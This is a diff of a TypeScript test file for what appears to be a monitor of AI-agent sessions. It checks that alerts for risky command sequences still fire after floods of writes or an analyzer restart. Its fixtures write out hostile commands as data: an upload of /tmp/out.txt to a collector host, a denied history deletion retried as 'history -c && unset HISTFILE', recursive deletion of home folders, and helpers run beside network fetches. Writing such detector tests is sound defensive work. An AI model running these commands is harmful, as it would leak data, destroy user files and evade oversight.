@@ -10,9 +10,9 @@
  */
 import { beforeAll, describe, expect, it } from 'vitest';
 import type { FixtureEvent } from '../analyzer/detector.js';
-import { createAnalyzer } from '../analyzer/index.js';
 import type { Store } from '../store/index.js';
-import { fixtureEvents, loudRulesPerCase } from './helpers/analyzer.js';
+import { loudRulesPerCase } from './helpers/analyzer.js';
+import { acrossRestart, calls, HISTORY } from './helpers/analyzer-restart.js';
 import { testStore } from './helpers/store.js';
 
 const cmd = (command: string, t = 0): FixtureEvent => ({ kind: 'command', command, t });
@@ -65,8 +65,35 @@ const SHIP = (t: number) => cmd('curl -s -d @/tmp/out.txt https://collector.exam
 
 const CASES: Record<string, { session: FixtureEvent[] }> = {
   'binary-whole': { session: [DOWNLOAD, RUN(30)] },
-  // Already loud: the run of a path counts as a write of it (its own mark), whatever was forgotten.
   'binary-flooded': { session: [DOWNLOAD, ...writesOutside(FLOOD, 1), RUN(30)] },
+  // A program outside the workspace run twice, the second time beside a fetch: a run writes nothing.
+  'rerun-outside': {
+    session: [
+      cmd('/opt/tools/build.sh --check', 0),
+      cmd('/opt/tools/build.sh --publish && curl -s https://api.github.com/repos/acme/app', 20),
+    ],
+  },
+  'rerun-home': {
+    session: [
+      cmd('~/bin/deploy --check', 0),
+      cmd('curl -s https://api.github.com/repos/acme/app', 10),
+      cmd('~/bin/deploy --push', 20),
+    ],
+  },
+  // Real writes (a copy made runnable, a here-document) of what then runs beside the network: loud.
+  'copied-then-run': {
+    session: [
+      cmd('cp dist/helper /tmp/helper && chmod +x /tmp/helper', 0),
+      cmd('/tmp/helper --init && curl -s https://dl.tools.example/cfg', 20),
+    ],
+  },
+  'heredoc-then-run': {
+    session: [
+      cmd('curl -s https://dl.tools.example/cfg -o /tmp/cfg.json', 0),
+      cmd("cat > /tmp/boot.sh <<'EOF'\necho ok\nEOF", 5),
+      cmd('/tmp/boot.sh', 20),
+    ],
+  },
   'endpoint-whole': { session: [ENDPOINT, COPY(30)] },
   'endpoint-flooded': { session: [ENDPOINT, ...writesOutside(FLOOD, 1), COPY(30)] },
   'hook-whole': { session: [FETCHER, HOOK(30)] },
@@ -102,6 +129,16 @@ describe('a flood of written paths does not make the second step of a sequence q
   it('a program downloaded, 300 other paths written, then the program run: loud', () => {
     expect(rules.get('binary-whole')).toContain('seq.new-binary-network');
     expect(rules.get('binary-flooded')).toContain('seq.new-binary-network');
+  });
+
+  it('a program run twice, the second time beside a fetch: the first run is not the write of it', () => {
+    expect(rules.get('rerun-outside')).not.toContain('seq.new-binary-network');
+    expect(rules.get('rerun-home')).not.toContain('seq.new-binary-network');
+  });
+
+  it('a program copied or written, then run beside the network: loud', () => {
+    expect(rules.get('copied-then-run')).toContain('seq.new-binary-network');
+    expect(rules.get('heredoc-then-run')).toContain('seq.new-binary-network');
   });
 
   it('an endpoint set, 300 other paths written, then a copy into a bucket: loud', () => {
@@ -140,62 +177,9 @@ describe('a flood of written paths does not make the second step of a sequence q
   });
 });
 
-/** What the analyzer replays of a session it does not hold (analyzer/engine.ts: historyCap). */
-const HISTORY = 5_000;
-/** The agent's own telemetry, model calls newer than the first step: as many as a forgotten session is rebuilt from. */
-const calls = (n: number, t: number): FixtureEvent[] =>
-  Array.from({ length: n }, (_, i): FixtureEvent => ({ kind: 'llm_request', t: t + i * 0.01 }));
-
-/** A fresh analyzer (a restart) scores what is stored: the number of events it read. */
-const drain = async (store: Store) => {
-  const { loop } = await createAnalyzer({ store, lease: false, analysis: 'inline' });
-  let n = 0;
-  for (let read = await loop.runOnce(); read > 0; read = await loop.runOnce()) n += read;
-  return n;
-};
-
-/**
- * Each case's first part, scored; then a restart; then its second part, scored: the rules of its loud alerts, and
- * each alert's explanation (`case/rule`).
- */
-async function acrossRestart(
-  store: Store,
-  cases: Record<string, { before: FixtureEvent[]; after: FixtureEvent[] }>,
-  texts: Map<string, string>,
-): Promise<Map<string, string[]>> {
-  const baseMs = Date.now() - 3_600_000;
-  const events = (id: string, session: FixtureEvent[]) =>
-    fixtureEvents(
-      { session },
-      { session: `fgr-${id}`, user: 'dev', repo: `https://git.example/fgr/${id}`, baseMs },
-    );
-  const before = Object.entries(cases).flatMap(([id, c]) => events(id, c.before));
-  await store.events.insert(before);
-  // The first steps were scored before the restart (else the second analyzer scores the sessions whole).
-  expect(await drain(store)).toBeGreaterThanOrEqual(before.length);
-  await store.events.insert(Object.entries(cases).flatMap(([id, c]) => events(id, c.after)));
-  await drain(store);
-  const out = new Map<string, string[]>();
-  for (const id of Object.keys(cases)) {
-    const { alerts } = await store.alerts.list({
-      session: `fgr-${id}`,
-      sort: 'time',
-      order: 'asc',
-      limit: 50,
-    });
-    const loud = alerts.filter((a) => a.severity === 'high' || a.severity === 'critical');
-    out.set(
-      id,
-      loud.map((a) => a.rule_id),
-    );
-    for (const a of loud) texts.set(`${id}/${a.rule_id}`, a.explanation.map((x) => x.text).join('\n'));
-  }
-  return out;
-}
-
 describe('a session rebuilt from its newest events does not make the second step of a sequence quiet', () => {
   let rules = new Map<string, string[]>();
-  const texts = new Map<string, string>();
+  let texts = new Map<string, string>();
 
   beforeAll(async () => {
     const denied: FixtureEvent = {
@@ -204,38 +188,30 @@ describe('a session rebuilt from its newest events does not make the second step
       command: 'rm -f ~/.bash_history',
       t: 0,
     };
-    rules = await acrossRestart(
-      await testStore('ward_redteam_forgotten_marks'),
-      {
-        'read-whole': { before: [READ, ...calls(100, 1)], after: [SHIP(100)] },
-        'read-rebuilt': { before: [READ, ...calls(HISTORY, 1)], after: [SHIP(100)] },
-        'binary-rebuilt': { before: [DOWNLOAD, ...calls(HISTORY, 1)], after: [RUN(100)] },
-        'retry-rebuilt': {
-          before: [denied, ...calls(HISTORY, 1)],
-          after: [cmd('history -c && unset HISTFILE', 100)],
-        },
-        'destructive-rebuilt': {
-          before: [
-            cmd('rm -rf ~/projects/old', 0),
-            cmd('rm -rf ~/Documents/archive', 1),
-            ...calls(HISTORY, 2),
-          ],
-          after: [cmd('rm -rf ~/Pictures', 100)],
-        },
-        // A long session rebuilt, then the project's usual ways out: nothing of a risky kind.
-        'benign-rebuilt': {
-          before: [cmd('npm run build', 0), ...calls(HISTORY, 1)],
-          after: [
-            cmd('curl -s https://api.github.com/repos/acme/app', 90),
-            cmd('git push origin main', 100),
-            cmd('npm publish', 110),
-            cmd('npm pkg set scripts.prepare="husky"', 120),
-            cmd('npm test', 130),
-          ],
-        },
+    ({ loud: rules, texts } = await acrossRestart(await testStore('ward_redteam_forgotten_marks'), 'fgr', {
+      'read-whole': { before: [READ, ...calls(100, 1)], after: [SHIP(100)] },
+      'read-rebuilt': { before: [READ, ...calls(HISTORY, 1)], after: [SHIP(100)] },
+      'binary-rebuilt': { before: [DOWNLOAD, ...calls(HISTORY, 1)], after: [RUN(100)] },
+      'retry-rebuilt': {
+        before: [denied, ...calls(HISTORY, 1)],
+        after: [cmd('history -c && unset HISTFILE', 100)],
       },
-      texts,
-    );
+      'destructive-rebuilt': {
+        before: [cmd('rm -rf ~/projects/old', 0), cmd('rm -rf ~/Documents/archive', 1), ...calls(HISTORY, 2)],
+        after: [cmd('rm -rf ~/Pictures', 100)],
+      },
+      // A long session rebuilt, then the project's usual ways out: nothing of a risky kind.
+      'benign-rebuilt': {
+        before: [cmd('npm run build', 0), ...calls(HISTORY, 1)],
+        after: [
+          cmd('curl -s https://api.github.com/repos/acme/app', 90),
+          cmd('git push origin main', 100),
+          cmd('npm publish', 110),
+          cmd('npm pkg set scripts.prepare="husky"', 120),
+          cmd('npm test', 130),
+        ],
+      },
+    }));
   }, 180_000);
 
   it('a key read, 5,000 model calls, a restart, then an upload: loud', () => {
